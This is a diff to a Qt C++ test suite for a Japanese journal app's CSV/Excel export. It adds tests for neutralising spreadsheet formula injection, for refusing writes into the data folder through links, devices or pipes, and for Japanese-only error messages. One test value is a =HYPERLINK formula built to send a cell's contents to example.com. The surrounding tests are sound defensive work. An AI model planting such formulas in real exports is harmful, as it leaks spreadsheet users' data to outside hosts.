@@ -5,10 +5,13 @@
 #include "exchange/export.h"
 #include "exportfixture.h"
 
+#include <QDirIterator>
 #include <QJsonArray>
+#include <QRegularExpression>
 
 #if defined(Q_OS_LINUX)
 #include <sys/fsuid.h>
+#include <sys/stat.h>
 #include <unistd.h>
 #endif
 
@@ -69,6 +72,12 @@ private slots:
     void pythonReadsEveryField();
     void totalsEndWithTheirSums();
     void amountThatIsNoNumberStopsTheExport();
+    void formulasAreWrittenAsText_data();
+    void formulasAreWrittenAsText();
+    void theDataFolderIsNeverWritten_data();
+    void theDataFolderIsNeverWritten();
+    void aFullDiskIsSaidInJapanese_data();
+    void aFullDiskIsSaidInJapanese();
     void failedWritesLeaveNoFile_data();
     void failedWritesLeaveNoFile();
     void progressIsToldAndEnded();
@@ -101,7 +110,7 @@ void TestCsvExport::fieldsAreQuotedAsRfc4180_data()
     QTest::addColumn<QByteArray>("field");
     QTest::newRow("plain") << u"本日は晴れ。"_s << QByteArray("本日は晴れ。");
     QTest::newRow("blanks stay unquoted") << u"  字下げ "_s << QByteArray("  字下げ ");
-    QTest::newRow("formula-like text as it is") << u"=1+2"_s << QByteArray("=1+2");
+    QTest::newRow("formula-like text guarded") << u"=1+2"_s << QByteArray("'=1+2");
     QTest::newRow("comma") << u"a,b"_s << QByteArray("\"a,b\"");
     QTest::newRow("quotes doubled") << u"彼は\"はい\"と"_s << QByteArray("\"彼は\"\"はい\"\"と\"");
     QTest::newRow("a quote alone") << u"\""_s << QByteArray("\"\"\"\"");
@@ -120,6 +129,39 @@ void TestCsvExport::fieldsAreQuotedAsRfc4180()
     QVERIFY(journal.open({{u"2007-04-05"_s, {1}, text}}));
     QVERIFY(!journal.csv(journal.path()).failure);
     QCOMPARE(readAll(journal.path()), kBom + kJournalHeader + "2007/04/05,1,,,," + field + "\r\n");
+}
+
+void TestCsvExport::formulasAreWrittenAsText_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<QByteArray>("field");
+    QTest::newRow("a link that sends a cell away")
+        << u"=HYPERLINK(\"http://example.com/?x=\"&A1,\"詳細\")"_s
+        << QByteArray("\"'=HYPERLINK(\"\"http://example.com/?x=\"\"&A1,\"\"詳細\"\")\"");
+    QTest::newRow("plus") << u"+81 3 1234"_s << QByteArray("'+81 3 1234");
+    QTest::newRow("minus") << u"-500 円の値引き"_s << QByteArray("'-500 円の値引き");
+    QTest::newRow("at") << u"@SUM(A1)"_s << QByteArray("'@SUM(A1)");
+    QTest::newRow("tab") << u"\t字下げ"_s << QByteArray("'\t字下げ");
+    QTest::newRow("carriage return, quoted") << u"\r二行目"_s << QByteArray("\"'\r二行目\"");
+    // Apostrophes already leading to such a character get one more, so that the import can tell.
+    QTest::newRow("an apostrophe before =") << u"'=1"_s << QByteArray("''=1");
+    QTest::newRow("two apostrophes before -") << u"''-1"_s << QByteArray("'''-1");
+    QTest::newRow("an apostrophe alone") << u"'"_s << QByteArray("'");
+    QTest::newRow("an apostrophe before a letter") << u"'abc"_s << QByteArray("'abc");
+    QTest::newRow("= later in the text") << u"a=1"_s << QByteArray("a=1");
+    QTest::newRow("a blank first") << u" =1"_s << QByteArray(" =1");
+    QTest::newRow("full-width equals") << u"＝1"_s << QByteArray("＝1");
+}
+
+void TestCsvExport::formulasAreWrittenAsText()
+{
+    QFETCH(QString, text);
+    QFETCH(QByteArray, field);
+    Journal journal;
+    QVERIFY(journal.open({{u"2007-04-05"_s, {-1000, std::nullopt, std::nullopt, -1}, text}}));
+    QVERIFY(!journal.csv(journal.path()).failure);
+    // Amounts and dates are never guarded.
+    QCOMPARE(readAll(journal.path()), kBom + kJournalHeader + "2007/04/05,-1000,,,-1," + field + "\r\n");
 }
 
 void TestCsvExport::shiftJisIsWindowsCodePage932()
@@ -270,18 +312,166 @@ void TestCsvExport::amountThatIsNoNumberStopsTheExport()
     QCOMPARE(entriesOf(journal.out.path()), QStringList());
 }
 
+// Every file under a folder with its bytes.
+QStringList contentsOf(const QString &folder)
+{
+    QStringList files;
+    QDirIterator it(folder, QDir::Files | QDir::Hidden | QDir::System, QDirIterator::Subdirectories);
+    while (it.hasNext()) {
+        const QString path = it.next();
+        files.append(path + u' ' + QString::fromLatin1(readAll(path).toHex()));
+    }
+    files.sort();
+    return files;
+}
+
+void TestCsvExport::theDataFolderIsNeverWritten_data()
+{
+    QTest::addColumn<QString>("target");
+    QTest::addColumn<QString>("reason");
+    const QString dataFile = u"はこのプログラムのデータファイルです。データフォルダーには書き出せません。"_s;
+    const QString inside = u"はこのプログラムのデータフォルダーの中です。データフォルダーには書き出せません。"_s;
+    const QString pointing = u"を指しています。データフォルダーには書き出せません。"_s;
+    const QString same = u"と同じファイルです。データフォルダーには書き出せません。"_s;
+    const QString notAFile = u"は普通のファイルではありません"_s;
+    QTest::newRow("the journal file") << u"journal"_s << dataFile;
+    QTest::newRow("the work file") << u"work"_s << dataFile;
+    QTest::newRow("a copy in backup/") << u"copy"_s << inside;
+    QTest::newRow("zephra.ini") << u"ini"_s << inside;
+    QTest::newRow("a new name inside") << u"new inside"_s << inside;
+    QTest::newRow("a symbolic link to the journal file") << u"symlink"_s << pointing;
+    QTest::newRow("a link to a companion not there yet") << u"dangling"_s << pointing;
+    QTest::newRow("a linked folder") << u"linked folder"_s << inside;
+    QTest::newRow("a hard link of the journal file") << u"hard link"_s << same;
+    QTest::newRow("a hard link of a copy") << u"hard link of a copy"_s << same;
+    QTest::newRow("a device") << u"device"_s << notAFile;
+    QTest::newRow("a named pipe") << u"fifo"_s << notAFile;
+    QTest::newRow("a folder") << u"folder"_s << u"はフォルダーです。"_s;
+}
+
+void TestCsvExport::theDataFolderIsNeverWritten()
+{
+    QFETCH(QString, target);
+    QFETCH(QString, reason);
+#if !defined(Q_OS_LINUX)
+    QSKIP("links, devices and pipes are made with Linux calls here");
+#else
+    Journal journal;
+    QVERIFY(journal.open(earlierDays(3)));
+    const QString data = journal.data.folder();
+    const QString copy = data + u"backup/20070401-120000-daily/"_s + store::kMainFileName;
+    QVERIFY(QDir().mkpath(QFileInfo(copy).path()) && QFile::copy(journal.data.mainPath(), copy));
+    QVERIFY(writeAll(data + u"zephra.ini"_s, "[backup]\ndays=7\n"));
+    const auto hardLink = [](const QString &from, const QString &to) {
+        return ::link(QFile::encodeName(from).constData(), QFile::encodeName(to).constData()) == 0;
+    };
+
+    QString path = journal.path(u"link.csv"_s);
+    if (target == u"journal") {
+        path = journal.data.mainPath();
+    } else if (target == u"work") {
+        path = journal.data.workPath();
+    } else if (target == u"copy") {
+        path = copy;
+    } else if (target == u"ini") {
+        path = data + u"zephra.ini"_s;
+    } else if (target == u"new inside") {
+        path = data + u"書き出し.csv"_s;
+    } else if (target == u"symlink") {
+        QVERIFY(QFile::link(journal.data.mainPath(), path));
+    } else if (target == u"dangling") {
+        QVERIFY(QFile::link(journal.data.mainPath() + u"-wal"_s, path));
+    } else if (target == u"linked folder") {
+        QVERIFY(QFile::link(data, journal.path(u"linked"_s)));
+        path = journal.path(u"linked/new.csv"_s);
+    } else if (target == u"hard link") {
+        QVERIFY(hardLink(journal.data.mainPath(), path));
+    } else if (target == u"hard link of a copy") {
+        QVERIFY(hardLink(copy, path));
+    } else if (target == u"device") {
+        path = u"/dev/null"_s;
+    } else if (target == u"fifo") {
+        QVERIFY(::mkfifo(QFile::encodeName(path).constData(), 0600) == 0);
+    } else {
+        QVERIFY(QDir().mkpath(path));
+    }
+    const QStringList before = contentsOf(data);
+    const QStringList outside = entriesOf(journal.out.path());
+
+    const std::optional<QString> refused = exchange::refusedTarget(path, data);
+    QVERIFY2(refused.value_or(QString()).startsWith(u"「%1」"_s.arg(QDir::toNativeSeparators(path))) &&
+                 refused->contains(reason),
+             qPrintable(refused.value_or(u"-"_s)));
+    // The export itself refuses whatever is no regular file, even when asked to overwrite.
+    if (target == u"device" || target == u"fifo" || target == u"folder") {
+        common::NoProgress quiet;
+        const exchange::Exported exported = exchange::exportJournal(
+            *journal.store, kApril, ExportFile{path, Format::Csv, Encoding::Utf8, {}, true}, quiet);
+        QCOMPARE(exported.failure, refused);
+    }
+    QCOMPARE(contentsOf(data), before);
+    QCOMPARE(entriesOf(journal.out.path()), outside);
+#endif
+}
+
+void TestCsvExport::aFullDiskIsSaidInJapanese_data()
+{
+    QTest::addColumn<Format>("format");
+    QTest::newRow("CSV") << Format::Csv;
+    QTest::newRow("Excel") << Format::Xlsx;
+}
+
+void TestCsvExport::aFullDiskIsSaidInJapanese()
+{
+    QFETCH(Format, format);
+    // Texts of kanji in no order, so that a workbook does not shrink them to nothing.
+    QList<Day> days;
+    quint32 seed = 12345;
+    for (int i = 0; i < 400; ++i) {
+        QString text;
+        for (int c = 0; c < 400; ++c) {
+            seed = seed * 1103515245u + 12345u;
+            text += QChar(char16_t(0x4E00 + (seed >> 8) % 0x5000));
+        }
+        days.append({QDate(2007, 4, 1).addDays(-i).toString(Qt::ISODate), {i}, text});
+    }
+    Journal journal;
+    QVERIFY(journal.open(days));
+    const QString disk = journal.out.filePath(u"small"_s);
+    QVERIFY(QDir().mkpath(disk));
+    if (QProcess::execute(u"mount"_s, {u"-t"_s, u"tmpfs"_s, u"-o"_s, u"size=1m"_s, u"tmpfs"_s, disk}) != 0) {
+        QSKIP("a small tmpfs cannot be mounted here (mount needs root)");
+    }
+    const auto unmount = qScopeGuard([&] { QProcess::execute(u"umount"_s, {disk}); });
+    // 64 KiB left.
+    QVERIFY(writeAll(QDir(disk).filePath(u"filler"_s), QByteArray(1024 * 1024 - 64 * 1024, 'x')));
+
+    const QString path = QDir(disk).filePath(format == Format::Csv ? u"日誌.csv"_s : u"日誌.xlsx"_s);
+    common::NoProgress quiet;
+    const store::Period all{QDate(2000, 1, 1), QDate(2007, 12, 31)};
+    const exchange::Exported exported =
+        exchange::exportJournal(*journal.store, all, ExportFile{path, format, Encoding::Utf8, {}, false}, quiet);
+    QCOMPARE(exported.failure.value_or(QString()),
+             u"「%1」に書き込めませんでした。ディスクの空きがありません。"_s.arg(QDir::toNativeSeparators(path)));
+    QCOMPARE(entriesOf(disk), QStringList{u"filler"_s});
+}
+
 void TestCsvExport::failedWritesLeaveNoFile_data()
 {
     QTest::addColumn<QString>("fault");
-    QTest::newRow("the folder is a file") << u"folder is a file"_s;
-    QTest::newRow("a read-only folder") << u"read-only"_s;
-    QTest::newRow("the name is a folder") << u"name is a folder"_s;
-    QTest::newRow("a file is there") << u"file is there"_s;
+    QTest::addColumn<QString>("reason");
+    QTest::newRow("the folder is a file")
+        << u"folder is a file"_s << u"フォルダーの名前のはずのところがファイルです。"_s;
+    QTest::newRow("a read-only folder") << u"read-only"_s << u"アクセスが許可されていません。"_s;
+    QTest::newRow("a missing folder") << u"missing"_s << u"そのファイルかフォルダーがありません。"_s;
+    QTest::newRow("the name is a folder") << u"name is a folder"_s << u"はフォルダーです。"_s;
+    QTest::newRow("a file is there") << u"file is there"_s << u"が既にあります。"_s;
 }
 
 void TestCsvExport::failedWritesLeaveNoFile()
 {
     QFETCH(QString, fault);
+    QFETCH(QString, reason);
     Journal journal;
     QVERIFY(journal.open(earlierDays(3)));
     const QString folder = journal.out.filePath(u"exports"_s);
@@ -302,6 +492,9 @@ void TestCsvExport::failedWritesLeaveNoFile()
     } else if (fault == u"file is there") {
         QVERIFY(QDir().mkpath(folder));
         QVERIFY(writeAll(path, "earlier"));
+    } else if (fault == u"missing") {
+        path = QDir(folder).filePath(u"not there/out.csv"_s);
+        QVERIFY(QDir().mkpath(folder));
     } else {
         QVERIFY(QDir().mkpath(folder));
         QVERIFY(QFile::setPermissions(journal.out.path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner |
@@ -324,6 +517,10 @@ void TestCsvExport::failedWritesLeaveNoFile()
     QVERIFY(exported.failure);
     qInfo("%s", qPrintable(*exported.failure));
     QVERIFY(exported.failure->contains(QDir::toNativeSeparators(path)));
+    // Said in Japanese: no English text of Qt's or the system's.
+    QVERIFY(exported.failure->endsWith(reason));
+    QVERIFY(
+        !QString(*exported.failure).remove(QDir::toNativeSeparators(path)).contains(QRegularExpression(u"[A-Za-z]"_s)));
     QCOMPARE(entriesOf(QFileInfo(folder).isDir() ? folder : journal.out.path()), before);
     if (fault == u"file is there") {
         QCOMPARE(readAll(path), QByteArray("earlier"));
